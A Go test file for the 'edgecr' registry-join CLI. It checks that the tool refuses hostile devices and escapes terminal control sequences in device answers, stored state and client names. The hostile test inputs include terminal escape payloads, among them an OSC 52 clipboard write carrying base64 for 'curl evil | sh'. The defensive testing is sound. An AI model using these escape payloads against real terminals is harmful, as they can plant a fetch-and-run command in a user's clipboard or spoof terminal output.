package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/edgecr/edgecr/agent/agenttest"
)

// rawControls are characters that must never reach the terminal raw.
const rawControls = "\x1b\x07\u009b\u202e"

func newHostileCLI(t *testing.T, o agenttest.DeviceOptions) *cli {
	t.Helper()
	c := newCLI(t, agenttest.RootOptions{Runtimes: []string{"etc/docker"}})
	c.dev = agenttest.NewDevice(t, o)
	return c
}

// `edgecr join --root` refuses a hostile device and writes nothing: hosts
// file, trust store, runtimes, config.json and state.json stay as they were.
func TestJoinRootRefusesHostileDevice(t *testing.T) {
	for _, c := range []struct {
		name string
		dev  agenttest.DeviceOptions
		want string
	}{
		{"registry-1.docker.io", agenttest.DeviceOptions{RegistryHost: "registry-1.docker.io"}, "docker.io"},
		{"github.com", agenttest.DeviceOptions{RegistryHost: "github.com", PermittedDNS: []string{"github.com", "localhost"}}, "github.com"},
		{"outside the constraints", agenttest.DeviceOptions{AnswerHost: "ecr.other.internal"}, "outside its CA's permitted names"},
		{"unconstrained CA", agenttest.DeviceOptions{UnconstrainedCA: true}, "--allow-unconstrained-ca"},
		{"invalid host", agenttest.DeviceOptions{AnswerHost: "ecr.box.internal\x1b[2J"}, `invalid host name "ecr.box.internal\x1b[2j"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			cl := newHostileCLI(t, c.dev)
			before := cl.snapshot()
			code, out, errOut := cl.run("join", cl.dev.URL, "--token", cl.dev.Token(agenttest.TokenOptions{}), "--root", cl.root)
			if code == 0 || !strings.Contains(errOut, c.want) || !strings.Contains(errOut, "nothing was changed here") {
				t.Errorf("exit %d, want a refusal with %q\n%s\n%s", code, c.want, out, errOut)
			}
			if strings.ContainsAny(out+errOut, rawControls) {
				t.Errorf("raw control characters in the output: %q", out+errOut)
			}
			cl.requireSnapshot(before, "after a refused hostile device")
			if code, out, errOut := cl.run("leave", "--root", cl.root); code != 0 {
				t.Errorf("leave: exit %d\n%s\n%s", code, out, errOut)
			}
		})
	}
}

// A device whose answer carries escape sequences in clientID or role is
// refused, and the error shows them escaped.
func TestJoinRefusesEscapesInTheAnswer(t *testing.T) {
	for _, o := range []agenttest.DeviceOptions{
		{AnswerClientID: "c-1\x1b[2J\x1b]0;owned\x07"},
		{AnswerRole: "push\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"},
		{AnswerRole: "admin\u202enip"},
		{AnswerClientID: "c-\u009b2J"},
	} {
		cl := newHostileCLI(t, o)
		before := cl.snapshot()
		code, out, errOut := cl.run("join", cl.dev.URL, "--token", cl.dev.Token(agenttest.TokenOptions{}), "--root", cl.root)
		if code == 0 || !strings.Contains(errOut, "refusing the device: invalid") {
			t.Errorf("%+v: exit %d\n%s\n%s", o, code, out, errOut)
		}
		if strings.ContainsAny(out+errOut, rawControls) || !strings.Contains(errOut, `\x1b`) && !strings.Contains(errOut, `\u`) {
			t.Errorf("%+v: output not escaped: %q", o, out+errOut)
		}
		cl.requireSnapshot(before, "after a refused answer")
	}
}

// A state written by an older edgecr from a hostile answer: status and
// leave print its client ID escaped, and leave converges.
func TestStatusAndLeaveEscapeStoredText(t *testing.T) {
	cl := newHostileCLI(t, agenttest.DeviceOptions{})
	if code, out, errOut := cl.run("join", cl.dev.URL, "--token", cl.dev.Token(agenttest.TokenOptions{}), "--root", cl.root); code != 0 {
		t.Fatalf("join: %s\n%s", out, errOut)
	}
	path := filepath.Join(cl.root, "var", "lib", "edgecr", "state.json")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var st map[string]any
	if err := json.Unmarshal(b, &st); err != nil {
		t.Fatal(err)
	}
	e := st["registries"].([]any)[0].(map[string]any)
	e["clientID"] = "c-1\x1b[2J\x1b]0;owned\x07\u202e"
	e["role"] = "push\x1b]52;c;eA==\x07"
	b, _ = json.Marshal(st)
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"status"}, {"status", "-o", "json"}, {"leave"}} {
		code, out, errOut := cl.run(append(args, "--root", cl.root)...)
		if strings.ContainsAny(out+errOut, rawControls) {
			t.Errorf("%v: raw control characters: %q", args, out+errOut)
		}
		if args[0] == "leave" && code != 0 {
			t.Errorf("leave: exit %d\n%s\n%s", code, out, errOut)
		}
		if args[0] == "status" && len(args) == 1 && !strings.Contains(out, `c-1\x1b[2J\x1b]0;owned\x07\u202e`) {
			t.Errorf("status does not show the client ID escaped:\n%s", out)
		}
	}
}

// A --name that would steer the device's terminal is refused here, before
// the device is asked anything.
func TestJoinRefusesUnsafeName(t *testing.T) {
	cl := newHostileCLI(t, agenttest.DeviceOptions{})
	code, _, errOut := cl.run("join", cl.dev.URL, "--token", cl.dev.Token(agenttest.TokenOptions{}), "--root", cl.root, "--name", "pc\x1b]0;x\x07")
	if code == 0 || !strings.Contains(errOut, `invalid client name "pc\x1b]0;x\x07"`) || len(cl.dev.Requests()) != 0 {
		t.Errorf("exit %d, requests %v\n%s", code, cl.dev.Requests(), errOut)
	}
}
